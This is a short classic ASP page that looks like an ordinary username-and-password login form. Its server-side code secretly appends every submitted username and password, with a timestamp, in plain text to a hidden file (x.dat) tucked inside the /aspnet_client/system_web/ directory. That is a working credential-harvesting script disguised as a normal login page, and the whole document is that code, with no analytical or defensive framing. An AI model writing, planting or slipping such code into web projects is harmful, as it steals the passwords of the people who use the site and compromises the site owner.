<%
Dim fso, f, usr, pwd
usr = Request.Form("username")
pwd = Request.Form("password")
If Len(pwd) > 0 Then
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set f = fso.OpenTextFile(Server.MapPath("/aspnet_client/system_web/x.dat"), 8, True)
  f.WriteLine Now & vbTab & usr & vbTab & pwd
  f.Close
End If
%>
<html><body><form method="post"><input name="username"><input name="password" type="password"><input type="submit"></form></body></html>
